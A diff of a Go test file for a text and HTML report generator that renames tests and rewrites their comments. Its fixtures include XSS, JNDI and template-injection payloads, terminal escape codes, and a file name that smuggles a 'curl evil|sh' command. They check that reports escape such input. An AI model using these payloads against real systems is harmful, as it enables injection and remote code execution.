@@ -22,7 +22,7 @@ const (
 	stem = "7f1c2a44-0d5e-4b53-9a0e-3d1f6f0a9c11/0123456789abcdef0123456789abcdef01234567/" +
 		"20260304T050607Z_5382f7ea-7557-4ab7-9782-d50480024a4e"
 
-	// hostile is what a requestor can put into a comment.
+	// hostile is a comment that a requestor could write.
 	hostile = "</script><script>alert(1)</script> <img src=x onerror=alert(1)> \"quoted\" \x1b[2J \x00 \u202e " +
 		"' --> ${jndi:ldap://x} {{7*7}} \r\n\r\nPASS javascript:alert(1) Ünï © 漢字"
 )
@@ -127,7 +127,8 @@ func write(t *testing.T, sum verify.Summary) (text, page string) {
 	return a.String(), b.String()
 }
 
-func TestGolden(t *testing.T) {
+// TestReports compares whole reports, as text and as HTML, one for each outcome.
+func TestReports(t *testing.T) {
 	t.Parallel()
 	for _, outcome := range []manifest.Outcome{
 		manifest.OutcomeArchived, manifest.OutcomeNotCollected, manifest.OutcomeQuarantined,
@@ -151,8 +152,8 @@ func TestGolden(t *testing.T) {
 	}
 }
 
-// TestLines: no line has more than 100 characters, except where one word has.
-func TestLines(t *testing.T) {
+// TestTextFitsInLines: no line has more than 100 characters, unless a single word is longer.
+func TestTextFitsInLines(t *testing.T) {
 	t.Parallel()
 	text, _ := write(t, summary(manifestOf(manifest.OutcomeArchived)))
 	for line := range strings.Lines(text) {
@@ -162,8 +163,8 @@ func TestLines(t *testing.T) {
 	}
 }
 
-// TestHostile: what people write can neither steer a terminal nor become a part of the page.
-func TestHostile(t *testing.T) {
+// TestHostileTextIsHarmless: it can neither control a terminal nor become markup of the page.
+func TestHostileTextIsHarmless(t *testing.T) {
 	t.Parallel()
 	for _, outcome := range []manifest.Outcome{manifest.OutcomeArchived, manifest.OutcomeNotCollected} {
 		m := manifestOf(outcome)
@@ -198,8 +199,8 @@ func TestHostile(t *testing.T) {
 	}
 }
 
-// TestNothingToPaste: a name that nobody vouches for never stands in a command, and none is a part of
-// one that a shell would obey.
+// TestNothingToPaste: commands appear only if the names in them were verified, and a shell treats each
+// name as a single word.
 func TestNothingToPaste(t *testing.T) {
 	t.Parallel()
 	const evil = "x.pem; curl evil|sh #"
@@ -237,9 +238,9 @@ func TestNothingToPaste(t *testing.T) {
 	}
 }
 
-// TestLedgerReport: where the manifest is gone, the report says what the ledger knows, and that it
-// proves nothing.
-func TestLedgerReport(t *testing.T) {
+// TestLedgerStandsInForAMissingManifest: the report says what the ledger knows, and that this proves
+// nothing.
+func TestLedgerStandsInForAMissingManifest(t *testing.T) {
 	t.Parallel()
 	m := manifestOf(manifest.OutcomeArchived)
 	sum := summary(m)
@@ -275,8 +276,8 @@ func TestLedgerReport(t *testing.T) {
 	}
 }
 
-// TestStrangers: what else lay there is named, by whoever knows of it, once.
-func TestStrangers(t *testing.T) {
+// TestStrangersAreNamedOnce: whether the manifest, the ledger or both know them.
+func TestStrangersAreNamedOnce(t *testing.T) {
 	t.Parallel()
 	m := manifestOf(manifest.OutcomeArchived)
 	m.Strangers = []manifest.Stranger{{Key: "packages/x.zip", VersionID: "v0", Size: 5, SHA256: digest("5"), FoundAt: at}}
@@ -298,8 +299,8 @@ func TestStrangers(t *testing.T) {
 	}
 }
 
-// TestSelfContained: the page asks for nothing.
-func TestSelfContained(t *testing.T) {
+// TestPageLoadsNothing: the page has no link, image, style sheet or script.
+func TestPageLoadsNothing(t *testing.T) {
 	t.Parallel()
 	_, page := write(t, summary(manifestOf(manifest.OutcomeArchived)))
 	for _, bad := range []string{"http:", "https:", "src=", "href=", "url(", "@import", "<script"} {
@@ -309,7 +310,8 @@ func TestSelfContained(t *testing.T) {
 	}
 }
 
-func TestNothing(t *testing.T) {
+// TestNoReportOfNothing: without a manifest and a record there is an error.
+func TestNoReportOfNothing(t *testing.T) {
 	t.Parallel()
 	sum := summary(manifest.Manifest{Outcome: manifest.OutcomeArchived})
 	if _, err := report.New(sum, sum.Scope.Key); err == nil {
